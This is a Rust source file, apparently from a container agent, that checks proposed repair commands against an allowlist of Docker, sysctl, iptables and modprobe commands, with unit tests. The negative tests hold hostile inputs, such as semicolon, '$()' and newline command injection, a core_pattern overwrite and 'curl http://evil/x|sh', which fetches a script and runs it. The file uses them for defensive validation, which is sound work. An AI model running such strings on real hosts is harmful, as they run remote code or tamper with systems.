//! Commands that mend a row, as this release itself would name them: what another host says is no
//! command before it is one of these.

/// By rows. `*` is a name, an address, a path or a number.
const KNOWN: [(u8, &str); 29] = [
    (0, "docker rm --force --volumes *"),
    (0, "docker stop *"),
    (1, "systemctl start docker"),
    (1, "usermod --append --groups docker *"),
    (3, "kill -USR1 $(pidof dockerd)"),
    (6, "docker image prune"),
    (6, "du --one-file-system --max-depth 2 * | sort -n"),
    (9, "timedatectl set-ntp true"),
    (10, "export NO_PROXY=*"),
    (10, "getent hosts *"),
    (10, "ip route get *"),
    (11, "openssl s_client -connect *"),
    (11, "timedatectl set-ntp true"),
    (15, "berth agent --cluster *"),
    (15, "berth agent --cluster * --agent-data *"),
    (16, "sysctl -w net.ipv4.ip_forward=1"),
    (17, "iptables -I FORWARD -i bu+ -j ACCEPT"),
    (17, "iptables -I FORWARD -o bu+ -m conntrack --ctstate RELATED,ESTABLISHED -j ACCEPT"),
    (18, "iptables -I INPUT -d 169.254.170.2 -p tcp -j ACCEPT"),
    (20, "ethtool --offload DEVICE tx-checksum-ip-generic off"),
    (22, "apt-get install nftables"),
    (22, "modprobe nf_tables"),
    (22, "modprobe veth"),
    (22, "modprobe vxlan"),
    (23, "curl --head https://*/v2/"),
    (23, "systemctl edit docker.service"),
    (24, "sysctl -w fs.file-max=*"),
    (24, "sysctl -w fs.inotify.max_user_instances=*"),
    (24, "sysctl -w net.netfilter.nf_conntrack_max=*"),
];

/// Whether it is such a command, of that row.
pub fn is_known(row: u8, command: &str) -> bool {
    KNOWN.iter().any(|(of, known)| *of == row && is_like(command, known))
}

/// Word by word.
fn is_like(command: &str, known: &str) -> bool {
    let (mut words, mut expected) = (command.split(' '), known.split(' '));
    loop {
        match (words.next(), expected.next()) {
            (None, None) => return true,
            (Some(word), Some(expected)) if is_word(word, expected) => {}
            _ => return false,
        }
    }
}

fn is_word(word: &str, expected: &str) -> bool {
    let Some((before, after)) = expected.split_once('*') else { return word == expected };
    let inner = word.strip_prefix(before).and_then(|it| it.strip_suffix(after));
    // Nothing that a shell acts upon, and no option.
    let is_plain = |it: char| it.is_ascii_alphanumeric() || "._-/:@%".contains(it);
    inner.is_some_and(|it| !it.is_empty() && !it.starts_with('-') && it.chars().all(is_plain))
}

#[cfg(test)]
mod tests {
    use super::is_known;

    #[test]
    fn a_command_is_known_by_its_row_and_word_by_word() {
        for (row, command) in [
            (0, "docker stop ecs-web_1"),
            (3, "kill -USR1 $(pidof dockerd)"),
            (6, "du --one-file-system --max-depth 2 /var/lib/berth | sort -n"),
            (11, "openssl s_client -connect plane.example:4577"),
            (23, "curl --head https://127.0.0.1:5000/v2/"),
            (24, "sysctl -w fs.file-max=200"),
        ] {
            assert!(is_known(row, command), "{command}");
        }
        for (row, command) in [
            (1, "docker stop web"),
            (0, "docker stop"),
            (0, "docker stop web other"),
            (0, "docker stop --all"),
            (0, "docker stop web;reboot"),
            (0, "docker stop $(reboot)"),
            (0, "docker stop web\nreboot"),
            (22, "modprobe evil"),
            (24, "sysctl -w kernel.core_pattern=/tmp/x"),
            (9, "curl http://evil/x|sh"),
        ] {
            assert!(!is_known(row, command), "{command}");
        }
    }
}
